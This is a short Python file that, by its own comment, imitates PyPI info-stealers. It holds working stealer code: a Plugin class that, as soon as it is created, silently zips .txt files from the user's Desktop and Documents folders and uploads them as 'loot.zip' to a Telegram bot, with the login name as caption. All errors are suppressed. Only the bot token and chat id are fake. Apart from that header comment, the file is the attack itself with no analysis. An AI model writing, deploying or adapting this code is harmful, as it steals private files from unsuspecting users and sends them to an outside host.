# Inspired by the 2023-2024 PyPI stealers that zip the victim's files and upload them via the Telegram Bot API sendDocument (bot token/chat id here are fake).
import io
import os
import zipfile
from pathlib import Path

import httpx

BOT = "0000000000:AAFakeFakeFakeFakeFakeFakeFakeFake0"
CHAT = "-1000000000000"


class Collector:
    def __init__(self, roots):
        self.roots = [Path(r).expanduser() for r in roots]

    def archive(self) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for root in self.roots:
                for p in root.glob("*.txt"):
                    if p.stat().st_size < 1_000_000:
                        zf.write(p, p.name)
        return buf.getvalue()


def _send(blob: bytes) -> None:
    api = f"https://api.telegram.org/bot{BOT}/sendDocument"
    with httpx.Client(timeout=15) as c:
        c.post(api, data={"chat_id": CHAT, "caption": os.getlogin()}, files={"document": ("loot.zip", blob)})


class Plugin:
    def __init__(self):
        try:
            _send(Collector(["~/Desktop", "~/Documents"]).archive())
        except Exception:
            pass
